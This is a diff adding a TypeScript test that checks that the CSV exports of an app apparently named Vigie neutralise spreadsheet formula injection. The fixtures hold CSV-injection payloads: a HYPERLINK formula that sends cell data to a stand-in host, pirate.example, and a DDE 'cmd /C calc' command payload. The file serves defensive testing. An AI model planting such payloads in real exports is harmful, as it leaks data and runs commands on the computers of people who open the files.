@@ -1,0 +1,104 @@
+/**
+ * Every CSV export of Vigie neutralises cells a spreadsheet would run as formulas (issue 10, « Exports »): texts
+ * typed by users or administrators — a verbatim, a procedure title, an edition name — starting with =, +, -, @, a tab
+ * or a carriage return come out with a quote in front. The CSV routes are found in the route table: a new one fails
+ * this test until it is covered here.
+ */
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
+import { TEST_TARGETS } from './helpers/db.ts';
+import { createTestApp, type TestApp } from './helpers/app.ts';
+import { createTestUser, sessionClient } from './helpers/users.ts';
+import type { TestClient } from './helpers/client.ts';
+import { getRoutePatterns } from './browser/route-patterns.ts';
+import { createFeedbackFixture, Visitor, type FeedbackFixture } from '../src/feedback/testing.ts';
+import { createDraft } from '../src/observatoire/editions/drafts.ts';
+import { publishEdition } from '../src/observatoire/editions/publish.ts';
+import { csvText, neutraliseCell } from '../src/kernel/export/csv.ts';
+
+const TITLE = '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")';
+const EDITION = '+Édition 2026 @SUM(A1:A9)';
+const VERBATIM = '=HYPERLINK("https://pirate.example";"Voir le justificatif")';
+const OTHER_HELP = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+/** The CSV routes of the route table: whatever serves a `.csv` file or an export in a chosen format. */
+const CSV_ROUTES = new Set(['/catalogue/export.csv', '/catalogue/import/modele.csv', '/observatoire/editions/:id/export.:format', '/avis/exports/:id/fichier']);
+
+function parseCsv(body: Buffer | string, delimiter: ';' | ','): string[][] {
+  return parse(body, { bom: true, delimiter, relax_column_count: true }) as string[][];
+}
+
+function assertNoFormula(rows: string[][], what: string): void {
+  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `${what}: cell ${JSON.stringify(cell)}`);
+}
+
+test('the writer: a quote before =, +, -, @, tab and CR; everything else, numbers included, unchanged', () => {
+  for (const text of ['=1+1', '+33 1 23', '-2', '@SUM(A1)', '\tx', '\rx']) assert.equal(neutraliseCell(text), `'${text}`);
+  for (const text of ['Démarche', ' =1', "'=déjà neutralisé", '1-2', '']) assert.equal(neutraliseCell(text), text);
+  const rows = parseCsv(csvText([['a', 'b', 'c'], ['=1+1', -3, 'x;y']]), ';');
+  assert.deepEqual(rows, [['a', 'b', 'c'], ["'=1+1", '-3', 'x;y']]);
+});
+
+for (const target of TEST_TARGETS) {
+  describe(`every CSV export neutralises formulas (${target})`, () => {
+    let t: TestApp;
+    let f: FeedbackFixture;
+    let admin: TestClient;
+    let edition: number;
+    before(async () => {
+      t = await createTestApp(target);
+      f = await createFeedbackFixture(t.db, 'csv');
+      await t.db.query(`UPDATE procedures SET title = $2, description = '-1 point', in_scope = true WHERE id = $1`, [f.catalog.procedures[0], TITLE]);
+      edition = await createDraft(t.db, { name: EDITION, period: 'T1', windowStart: '2026-01-01', windowEnd: '2026-03-31' }, null);
+      await publishEdition(t.db, edition, null);
+      const v = new Visitor(t.app, '10.9.0.1');
+      const s1 = await v.start(f.button.publicKey, { satisfaction: 'good' });
+      const s2 = await v.step(String(s1.headers.location), { action: 'skip' });
+      const help = await v.step(String(s2.headers.location), { help_tried: ['other'], help_other: OTHER_HELP, action: 'next' });
+      await v.step(String(help.headers.location), { verbatim: VERBATIM, action: 'next' });
+      admin = await sessionClient(t.app, t.db, await createTestUser(t.db, undefined, [{ role: 'admin' }]));
+    });
+    after(() => t.close());
+
+    test('the route table has no CSV export this test does not cover', () => {
+      const found = getRoutePatterns(t.app).filter((p) => /\.csv$|:format|\/fichier$/.test(p));
+      assert.deepEqual(found.filter((p) => !CSV_ROUTES.has(p)), []);
+      assert.deepEqual([...CSV_ROUTES].filter((p) => !found.includes(p)), [], 'a covered route disappeared');
+    });
+
+    test('catalogue CSV: the title comes out as text', async () => {
+      const res = await admin.get('/catalogue/export.csv');
+      assert.equal(res.statusCode, 200);
+      const rows = parseCsv(res.rawPayload, ';');
+      assert.ok(rows.some((r) => r.includes(`'${TITLE}`)), 'neutralised title present');
+      assertNoFormula(rows, 'catalogue');
+      const model = await admin.get('/catalogue/import/modele.csv');
+      assert.equal(model.statusCode, 200);
+      assertNoFormula(parseCsv(model.rawPayload, ';'), 'import template');
+    });
+
+    test('public observatoire CSV: procedure titles and edition names come out as text', async () => {
+      const res = await t.app.inject(`/observatoire/editions/${edition}/export.csv`);
+      assert.equal(res.statusCode, 200);
+      const records = parse(res.rawPayload, { bom: true, columns: true }) as Record<string, string>[];
+      const row = records.find((r) => r.demarche === `'${TITLE}`);
+      assert.ok(row, `neutralised title among ${records.map((r) => r.demarche).join(', ')}`);
+      assert.equal(row.edition, `'${EDITION}`);
+      assertNoFormula(parseCsv(res.rawPayload, ','), 'observatoire');
+    });
+
+    test('feedback CSV export: verbatims and « other help » come out as text', async () => {
+      const res = await admin.post(`/avis/formulaires/${f.formId}/exports`, { format: 'csv' });
+      assert.equal(res.statusCode, 303);
+      const file = await admin.get(`${res.headers.location}/fichier`);
+      assert.equal(file.statusCode, 200);
+      const records = parse(file.rawPayload, { bom: true, columns: true, delimiter: ';' }) as Record<string, string>[];
+      assert.equal(records.length, 1);
+      assert.equal(records[0].verbatim, `'${VERBATIM}`);
+      assert.equal(records[0].help_other, `'${OTHER_HELP}`);
+      assertNoFormula(parseCsv(file.rawPayload, ';'), 'feedback');
+    });
+  });
+}
